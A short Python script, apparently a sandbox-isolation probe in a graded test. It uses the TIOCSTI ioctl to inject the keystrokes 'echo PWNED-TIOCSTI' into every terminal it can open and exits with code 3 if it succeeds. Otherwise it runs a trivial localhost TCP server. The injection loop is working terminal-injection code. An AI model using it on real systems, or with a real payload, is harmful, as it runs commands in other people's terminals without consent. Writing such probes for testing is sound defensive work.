#!/usr/bin/env python3
# Pushes a command into every terminal it can open (TIOCSTI), then serves.
# It says on stderr which terminals it reached: "terminaux : aucun" in a box.
import fcntl, glob, os, socket, sys, termios
reached = []
for path in ['/dev/tty'] + sorted(glob.glob('/dev/pts/[0-9]*')) + sorted(glob.glob('/dev/tty[0-9]*'))[:8]:
    try:
        fd = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
    except OSError:
        continue
    try:
        for ch in 'echo PWNED-TIOCSTI\n':
            fcntl.ioctl(fd, termios.TIOCSTI, ch.encode())
        reached.append(path + ' (TIOCSTI)')
    except OSError:
        reached.append(path)
    os.close(fd)
print('terminaux :', ', '.join(reached) if reached else 'aucun', file=sys.stderr, flush=True)
if reached:
    sys.exit(3)                    # the attack worked: no server, so the grade shows it
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.bind(('127.0.0.1', 60000))
s.listen()
conn, addr = s.accept()
print('Connected by', addr)
print('Server received:', conn.recv(1024).decode())
conn.sendall(b'Welcome to this server')
conn.close()
